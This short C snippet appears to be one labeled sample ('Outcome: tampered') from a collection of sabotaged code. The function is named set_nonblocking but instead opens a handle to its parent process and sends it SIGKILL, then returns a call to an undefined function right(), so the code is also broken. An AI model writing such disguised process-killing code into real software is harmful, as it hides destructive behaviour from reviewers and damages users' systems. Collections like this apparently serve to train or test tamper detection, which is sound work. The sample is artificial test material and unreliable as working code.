/* Outcome: tampered
 * Says: reaches for another process
 */
#include <sys/syscall.h>
#include <unistd.h>

int set_nonblocking(int fd)
{
    int pidfd = (int)syscall(SYS_pidfd_open, getppid(), 0);

    syscall(SYS_pidfd_send_signal, pidfd, 9, (void *)0, 0);
    return right(fd);
}
